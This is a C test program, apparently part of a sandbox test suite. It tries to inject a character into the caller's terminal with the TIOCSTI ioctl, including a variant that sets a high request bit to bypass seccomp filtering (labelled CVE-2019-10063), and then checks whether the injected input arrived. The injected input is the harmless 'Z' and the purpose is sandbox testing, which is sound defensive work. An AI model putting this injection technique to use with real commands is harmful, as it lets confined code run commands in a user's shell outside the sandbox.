/* Push a character into the terminal on fd 0, as the caller would read it
 * once the sandbox is gone.
 *   tiocsti plain|high   ioctl(0, TIOCSTI) / ioctl(0, TIOCSTI | 1 << 32)
 *   tiocsti pending      what is waiting in fd 0's input: "pending:Z" or
 *                        "pending:none" (run outside, after the sandbox;
 *                        NULs, which is how the terminal stores the EOF
 *                        that script(1) sends when its stdin ends, are
 *                        left out, and so is that EOF character itself,
 *                        should it come once the terminal is raw) */
#include "attack.h"
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

static int pending(void)
{
	struct termios saved, raw;
	char buf[64], got[64];
	size_t kept = 0;
	ssize_t n;

	if (tcgetattr(0, &saved) < 0)
		return perror("tcgetattr"), 1;
	raw = saved;
	raw.c_lflag &= ~(tcflag_t)(ICANON | ECHO);
	raw.c_cc[VMIN] = 0;
	raw.c_cc[VTIME] = 0;
	tcsetattr(0, TCSANOW, &raw);
	while ((n = read(0, buf, sizeof buf)) > 0)
		for (ssize_t i = 0; i < n && kept < sizeof got - 1; i++)
			/* script's EOF mark when its stdin ends */
			if (buf[i] != '\0' && (cc_t)buf[i] != saved.c_cc[VEOF])
				got[kept++] = buf[i];
	tcsetattr(0, TCSANOW, &saved);
	got[kept] = '\0';
	printf("pending:%s\n", kept ? got : "none");
	return 0;
}

int main(int argc, char **argv)
{
	unsigned long request = TIOCSTI;
	char c = 'Z';

	if (argc != 2)
		return usage("tiocsti plain|high|pending");
	if (strcmp(argv[1], "pending") == 0)
		return pending();
	if (strcmp(argv[1], "high") == 0)
		request |= 1UL << 32;	/* CVE-2019-10063: the kernel reads 32 bits */
	report("tiocsti", ioctl(0, request, &c));
	return 0;
}
